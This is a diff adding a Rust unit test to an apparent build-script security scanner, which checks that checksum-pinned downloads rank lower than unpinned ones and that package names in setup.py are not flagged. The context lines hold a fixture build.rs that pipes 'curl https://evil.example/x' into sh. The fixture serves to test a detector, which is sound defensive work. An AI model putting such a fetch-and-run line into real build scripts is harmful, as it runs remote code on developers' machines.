@@ -716,6 +716,20 @@ mod tests {
     }
 
     #[test]
+    fn checksum_pinned_downloads_and_requirement_names() {
+        let pinned = "use sha2::{Digest, Sha256};\nconst SHA256: &str = \"accfc5bdefc0fe7814a7207a0d1eddd61139011cab7df7aa75396c918da0c954\";\nfn main() {\n    let url = \"https://github.com/microsoft/onnxruntime/releases/download/v1.18.0/ort.tgz\";\n    let body = ureq::get(url).call().unwrap();\n    assert_eq!(hex::encode(Sha256::digest(&body)), SHA256);\n}";
+        let f = scan("build.rs", pinned);
+        assert_eq!(f.first().map(|f| f.severity), Some(Severity::Medium), "{f:?}");
+        // The same download without the pinned digest stays high.
+        let unpinned = pinned.replace("assert_eq!(hex::encode(Sha256::digest(&body)), SHA256);", "");
+        let unpinned = unpinned.replace("accfc5bdefc0fe7814a7207a0d1eddd61139011cab7df7aa75396c918da0c954", "1.18.0");
+        assert_eq!(scan("build.rs", &unpinned).first().map(|f| f.severity), Some(Severity::High));
+        // hummingbot's setup.py: `urllib3` in install_requires is a package name, not a call.
+        let setup = "from setuptools import setup\nfrom Cython.Build import build_ext\nsetup(\n    name='bot',\n    install_requires=[\n        \"aiohttp>=3.8\",\n        \"urllib3>=1.26.15,<2.0\",\n    ],\n    cmdclass={'build_ext': build_ext},\n)\n";
+        assert!(scan("setup.py", setup).iter().all(|f| f.check != "scam.install_scripts"), "{:?}", scan("setup.py", setup));
+    }
+
+    #[test]
     fn build_scripts() {
         let bad = "use std::process::Command;\nfn main() {\n  let _ = Command::new(\"sh\").arg(\"-c\").arg(\"curl -s https://evil.example/x | sh\").status();\n}";
         assert!(scan("build.rs", bad)
